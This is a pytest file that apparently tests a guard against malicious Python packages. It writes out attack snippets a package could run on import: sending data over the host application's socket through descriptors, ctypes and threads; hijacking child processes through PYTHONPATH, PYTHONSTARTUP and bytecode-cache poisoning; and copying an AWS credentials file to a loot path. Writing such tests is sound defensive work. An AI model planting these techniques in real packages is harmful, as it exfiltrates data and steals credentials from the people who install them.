"""What a package is handed, or hands over: sockets of the application, environments of its children, callables of its classes."""

import attempts
import pytest
from attempts import CALLED_HOME, EVERYWHERE, IMPORTED, Attempt

# The application is connected before the package is imported, which looks for the socket.
CONNECTED = (
    "import os, socket\nhost, port = os.environ['SINK'].removeprefix('http://').split(':')\n"
    "plug = socket.create_connection((host, int(port)))\n"
)
LENT = CONNECTED + "try:\n    " + IMPORTED + "except OSError:\n    pass\nplug.settimeout(5)\nplug.shutdown(socket.SHUT_WR)\nplug.recv(64)\n"
FIND = """
import gc, socket
plug = [each for each in gc.get_objects() if isinstance(each, socket.socket) and each.fileno() >= 0][0]
REQUEST = b"GET /home HTTP/1.0\\r\\n\\r\\n"
"""
CHILD = "import subprocess, sys\nsubprocess.run([sys.executable, 'second.py'])\n"
EXTRA = {"extra.py": "x = 1\n", "second.py": "import extra\n"}


def by_socket(source, **fields):
    """Return an Attempt to send by the application's socket while the package is imported."""
    return Attempt(FIND + source, CALLED_HOME, app=LENT, **fields)


HANDED_OVER = {
    "socket_of_the_application": by_socket("plug.sendall(REQUEST)\n"),
    "socket_by_its_descriptor": by_socket("os.write(plug.fileno(), REQUEST)\n"),
    "socket_by_many_buffers": by_socket("os.writev(plug.fileno(), [REQUEST])\n"),
    "socket_in_another_object": by_socket("with socket.socket(fileno=os.dup(plug.fileno())) as copy:\n    copy.send(REQUEST)\n"),
    "socket_by_a_file_object": by_socket("with plug.makefile('wb') as file:\n    file.write(REQUEST)\n"),
    "socket_without_a_frame": by_socket(
        "import functools, operator\nlist(map(operator.methodcaller('sendall', REQUEST), [plug]))\n"
    ),
    "socket_by_a_key_of_sorting": by_socket("sorted([REQUEST], key=plug.sendall)\n"),
    "socket_by_a_second_module": by_socket(
        "import _imp, importlib.machinery\n"
        "spec = importlib.machinery.ModuleSpec('_socket', None, origin=__import__('_socket').__spec__.origin)\n"
        "if spec.origin == 'built-in':\n    second = _imp.create_builtin(spec)\n    _imp.exec_builtin(second)\n"
        "else:\n    second = _imp.create_dynamic(spec)\n    _imp.exec_dynamic(second)\n"
        "second.socket(fileno=os.dup(plug.fileno())).sendall(REQUEST)\n"
    ),
    "socket_by_a_thread": by_socket(
        "import threading\nthread = threading.Thread(target=plug.sendall, args=(REQUEST,))\nthread.start()\nthread.join()\n"
    ),
    "socket_by_the_c_library": by_socket(
        "import ctypes\nctypes.CDLL(None).send(plug.fileno(), REQUEST, len(REQUEST), 0)\n"
    ),
    "descriptor_by_the_c_library": by_socket(
        "import ctypes\nwrite = ctypes.CFUNCTYPE(ctypes.c_ssize_t, ctypes.c_int, ctypes.c_char_p, ctypes.c_size_t)"
        "(('write', ctypes.CDLL(None)))\nwrite(plug.fileno(), REQUEST, len(REQUEST))\n"
    ),
    "cache_folder_of_a_child": Attempt(
        """
import _frozen_importlib_external as external
source = os.getcwd() + "/extra.py"
status, place = os.stat(source), TMP + "/caches" + os.getcwd() + "/extra." + sys.implementation.cache_tag + ".pyc"
os.makedirs(os.path.dirname(place))
with open(place, "wb") as file:
    file.write(external._code_to_timestamp_pyc(compile(COPY, source, "exec"), int(status.st_mtime), status.st_size))
os.environ["PYTHONPYCACHEPREFIX"] = TMP + "/caches"
""",
        app=IMPORTED + CHILD,
        project=EXTRA,
    ),
    "path_of_a_child": Attempt(
        "os.mkdir(TMP + '/lib')\nopen(TMP + '/lib/colorsys.py', 'w').write(COPY)\nos.environ['PYTHONPATH'] = TMP + '/lib'\n",
        app=IMPORTED + CHILD,
        project={"second.py": "import colorsys\n"},
    ),
    "start_of_an_interactive_child": Attempt(
        "open(TMP + '/start.py', 'w').write(COPY)\nos.environ['PYTHONSTARTUP'] = TMP + '/start.py'\n",
        app=IMPORTED + "import subprocess, sys\nsubprocess.run([sys.executable, '-i'], input=b'')\n",
    ),
    "iterator_made_of_builtins": Attempt(
        "import functools, shutil\nitems = map(functools.partial(shutil.copyfile, AWS), [LOOT])\n",
        app="import {package}.{name} as package\nfor item in package.items:\n    pass\n",
        open_on=EVERYWHERE,
        section="callbacks-made-of-builtins",
    ),
    "base_class_made_of_builtins": Attempt(
        "import functools, shutil\nclass Base:\n    __init_subclass__ = functools.partial(shutil.copyfile, AWS, LOOT)\n",
        app="import {package}.{name} as package\nclass Own(package.Base):\n    pass\n",
        open_on=EVERYWHERE,
        section="callbacks-made-of-builtins",
    ),
}
WITH_HEAD = {name: attempts.with_head(each) for name, each in HANDED_OVER.items()}


@pytest.fixture(scope="session")
def room(tmp_path_factory):
    """The Room of one distribution that has a module for each."""
    return attempts.Room("acme_handed", WITH_HEAD, tmp_path_factory.mktemp("handed"))


@pytest.mark.parametrize("name", HANDED_OVER)
def test_what_is_handed_over_reaches_its_target_unguarded(name, room, interpreter, tmp_path):
    """The control: without the guard it does what it is there for."""
    attempts.assert_works(room, name, interpreter, tmp_path)


@pytest.mark.parametrize("name", HANDED_OVER)
def test_what_is_handed_over_is_stopped(name, room, any_interpreter, tmp_path, request):
    """Under `recommended` it isn't done."""
    attempts.assert_stopped(room, name, any_interpreter, tmp_path, request)
